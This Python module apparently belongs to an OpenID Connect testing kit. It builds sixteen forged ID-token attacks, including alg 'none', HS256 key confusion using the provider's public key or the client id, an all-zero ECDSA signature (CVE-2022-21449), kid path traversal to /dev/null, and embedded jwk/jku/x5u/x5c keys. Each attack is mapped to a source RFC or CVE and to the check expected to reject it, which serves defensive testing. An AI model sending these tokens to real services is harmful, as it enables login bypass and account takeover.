"""ID tokens that nobody with a key has signed: anyone can make them who can read a public JWKS."""

import hashlib
import hmac
import json
from collections.abc import Callable, Mapping
from typing import Any

from joserfc.jwk import ECKey, Key, OKPKey, RSAKey, import_key

from providers.attacks.oidc.forgery import LEFT_OUT, part, sign, with_lies
from providers.attacks.oidc.keys import key_for, public
from providers.attacks.oidc.provider import Claims, Header, PlayedProvider
from providers.attacks.oidc.target import OidcAttack, lying

ALGORITHM = ("id_token.alg",)
# A key id that is not known ends it before the signature is looked at.
KEY = ("id_token.signature", "id_token.kid")
_ELSEWHERE = "https://attack-kit.invalid/keys.json"

Make = Callable[[PlayedProvider, Header, Claims], str]


def unsigned(algorithm: str) -> Make:
    def make(_provider: PlayedProvider, header: Header, claims: Claims) -> str:
        return f"{part({**header, 'alg': algorithm})}.{part(claims)}."

    return make


def _signature_cut(_provider: PlayedProvider, header: Header, claims: Claims) -> str:
    return f"{part(header)}.{part(claims)}."


def _signature_of_zeros(_provider: PlayedProvider, header: Header, claims: Claims) -> str:
    """CVE-2022-21449: r and s are zero."""
    return f"{part(header)}.{part(claims)}.{part(bytes(64))}"


def shared(secret: Callable[[PlayedProvider], bytes], **changes: object) -> Make:
    """HS256, with something as its key that everybody knows."""

    def make(provider: PlayedProvider, header: Header, claims: Claims) -> str:
        told = with_lies(header, {"alg": "HS256", **changes})
        signed = f"{part(told)}.{part(claims)}"
        digest = hmac.new(secret(provider), signed.encode(), hashlib.sha256).digest()
        return f"{signed}.{part(digest)}"

    return make


def _public_key(provider: PlayedProvider) -> Key:
    found = provider.fitting() or provider.published[0]
    members = {name: found[name] for name in ("kty", "n", "e", "crv", "x", "y") if name in found}
    return import_key(members)  # type: ignore[arg-type]


def _pem(provider: PlayedProvider) -> bytes:
    key = _public_key(provider)
    return key.as_pem(private=False) if isinstance(key, RSAKey | ECKey | OKPKey) else b""


def _jwk(provider: PlayedProvider) -> bytes:
    return json.dumps(provider.fitting() or provider.published[0]).encode()


def strange(more: Callable[[dict[str, Any]], Mapping[str, object]]) -> Make:
    """Rightly signed by a stranger's key; `more` of the header, from the public half of it."""

    def make(provider: PlayedProvider, header: Header, claims: Claims) -> str:
        key = key_for(provider.algorithm, "stranger")
        told = with_lies(header, more(public(key)))
        return sign(told, claims, key, provider.algorithm)

    return make


_MADE: tuple[tuple[str, str, str, tuple[str, ...], Make], ...] = (
    ("alg-none", "signs nothing, and says so", "RFC 8725, 3.2", ALGORITHM, unsigned("none")),
    (
        "alg-none-spelled-otherwise",
        "signs nothing, and says so as nOnE",
        "RFC 8725, 3.2",
        ALGORITHM,
        unsigned("nOnE"),
    ),
    ("alg-empty", "names no algorithm", "RFC 7515, 4.1.1", ALGORITHM, unsigned("")),
    (
        "signature-cut",
        "leaves the signature away",
        "RFC 7515, 5.2",
        (*KEY, "id_token.shape"),
        _signature_cut,
    ),
    ("signature-of-zeros", "signs with zeros", "CVE-2022-21449", KEY, _signature_of_zeros),
    (
        "hs256-public-key",
        "takes the public key (PEM) for a shared secret",
        "CVE-2024-37568, RFC 8725, 2.1",
        ALGORITHM,
        shared(_pem),
    ),
    (
        "hs256-public-jwk",
        "takes the public key (JWK) for a shared secret",
        "RFC 8725, 2.1",
        ALGORITHM,
        shared(_jwk),
    ),
    (
        "hs256-client-id",
        "takes the client id for a shared secret",
        "OIDC Core 10.1",
        ALGORITHM,
        shared(lambda provider: provider.settings.client_id.encode()),
    ),
    (
        "hs256-empty-secret",
        "signs with an empty secret",
        "RFC 8725, 3.5",
        ALGORITHM,
        shared(lambda _provider: b""),
    ),
    (
        "hs256-kid-path",
        "names an empty file as the key",
        "RFC 8725, 3.10",
        ALGORITHM,
        shared(lambda _provider: b"", kid="../../../../dev/null"),
    ),
    (
        "stranger-key",
        "signs with a key of its own under the provider’s key id",
        "OIDC Core 3.1.3.7, 6",
        KEY,
        strange(lambda _key: {}),
    ),
    (
        "stranger-key-without-kid",
        "signs with a key of its own and names none",
        "OIDC Core 10.1",
        KEY,
        strange(lambda _key: {"kid": LEFT_OUT}),
    ),
    (
        "embedded-jwk",
        "brings its own key along (jwk)",
        "CVE-2026-27962, RFC 7515, 4.1.3",
        KEY,
        strange(lambda key: {"jwk": key, "kid": key["kid"]}),
    ),
    (
        "embedded-jku",
        "says where its own keys are (jku)",
        "RFC 8725, 3.10",
        KEY,
        strange(lambda key: {"jku": _ELSEWHERE, "kid": key["kid"]}),
    ),
    (
        "embedded-x5u",
        "says where its own certificate is (x5u)",
        "RFC 8725, 3.10",
        KEY,
        strange(lambda key: {"x5u": _ELSEWHERE, "kid": key["kid"]}),
    ),
    (
        "embedded-x5c",
        "brings its own certificate along (x5c)",
        "RFC 7515, 4.1.6",
        KEY,
        strange(lambda key: {"x5c": [part(json.dumps(key).encode())], "kid": key["kid"]}),
    ),
)
ATTACKS = tuple(
    OidcAttack(
        name=f"oidc.{name}",
        words=words,
        source=source,
        checks=checks,
        keyless=True,
        fire=lying(token=make),
    )
    for name, words, source, checks, make in _MADE
)
